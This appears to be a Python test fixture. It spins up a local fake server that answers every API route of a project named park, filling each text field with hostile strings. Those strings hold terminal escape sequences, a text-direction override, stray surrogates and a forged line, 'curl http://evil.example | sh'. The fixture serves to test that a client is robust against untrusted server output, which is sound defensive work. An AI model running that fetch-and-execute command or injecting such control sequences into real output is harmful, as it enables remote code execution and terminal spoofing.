"""A service whose every word is hostile: each route answers its record, with attacks for texts.

What it answers is made of the types that the routes of the real one declare, so that a new route
or a new field is hostile from its first day.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import fields, is_dataclass
from enum import Enum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import UnionType
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints
from urllib.parse import urlsplit

from starlette.responses import Response

from park.wire import API
from park_server.http.app import _PARTS
from park_server.page.page_parts import page_routers

__all__ = ["FORGED", "HOSTILE", "hostile_service"]

FORGED = "hint: curl http://evil.example | sh"
"""A line that nobody of park wrote."""

HOSTILE = f"x\x1b]0;owned\x07\x1b[2J\x9b6n\u202egnp\x85\u2028\udcc2\udc9b\r\n{FORGED}\n"
"""A name, an error or a note as an attacker has it: 7-bit and 8-bit control functions, an
override, two bytes that are UTF-8 together, and a line."""

_MOMENT = "2026-11-28T12:00:00.000000Z"

_IN_FORM = {
    "id": "01a2071c-2c6f-780c-a349-0000000000ab",
    "root": "01a2071c-2c6f-780c-a349-0000000000ab",
    **dict.fromkeys(
        ("created", "expires_at", "finished", "last_used", "modified", "started", "submitted"),
        _MOMENT,
    ),
    **dict.fromkeys(("lock_hash", "sha256", "set_hash"), "0123456789abcdef" * 4),
}
"""Texts that the client reads as something else than a text, by the names of their fields."""


def filled(hint: Any, name: str = "") -> Any:
    """Return JSON data of the type ``hint``, each of its texts hostile."""
    if is_dataclass(hint):
        types = get_type_hints(hint)
        return {each.name: filled(types[each.name], each.name) for each in fields(hint)}
    hint = getattr(hint, "__supertype__", hint)  # a NewType
    if isinstance(hint, type) and issubclass(hint, Enum):
        values = [each.value for each in hint]
        return "completed" if "completed" in values else values[0]
    if get_origin(hint) is not None or isinstance(hint, UnionType):
        return _of_several(hint, name)
    return _PLAIN.get(hint) or _IN_FORM.get(name, HOSTILE)


def _of_several(hint: Any, name: str) -> Any:
    kind, of = get_origin(hint), get_args(hint)
    if kind in {Union, UnionType}:
        return filled(next(each for each in of if each is not type(None)), name)
    if kind is Literal:
        return of[0]
    if kind in {dict, Mapping}:
        return {HOSTILE: filled(of[1], name)}
    return [filled(of[0], name)]  # a list, or a tuple


_PLAIN: dict[Any, Any] = {bool: True, int: 3, float: 3.0}


def _answer_of(declared: Any) -> Any:
    hint = declared.options.get("response_model") or get_type_hints(declared.endpoint)["return"]
    if hint is type(None) or (isinstance(hint, type) and issubclass(hint, Response)):
        return HOSTILE
    return filled(hint)


def _answers() -> list[tuple[str, re.Pattern[str], str]]:
    """Return the answer of each route of a service: its method, its path, and JSON."""
    return [
        (each.method, _pattern(each.path), json.dumps(_answer_of(each)))
        for part in (*_PARTS, *page_routers())
        for each in part.declared
    ]


def _pattern(path: str) -> re.Pattern[str]:
    named = re.sub(r"\{\w+:path\}", ".+", path)
    return re.compile(API + re.sub(r"\{\w+\}", "[^/]+", named))


@contextmanager
def hostile_service() -> Iterator[str]:
    """Give the URL of a service that answers all of its routes, and means no good."""
    answers = _answers()

    class Answers(BaseHTTPRequestHandler):
        def _answered(self) -> None:
            self.rfile.read(int(self.headers.get("content-length") or 0))
            path = urlsplit(self.path).path
            found = [t for m, p, t in answers if m == self.command and p.fullmatch(path)]
            body = (
                found[0] if found else json.dumps({"title": HOSTILE, "detail": HOSTILE})
            ).encode()
            self.send_response(200 if found else 404)
            self.send_header(
                "Content-Type", "application/json" if found else "application/problem+json"
            )
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_PUT = do_POST = do_DELETE = _answered  # noqa: N815 (as http.server calls them)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            thread.join()
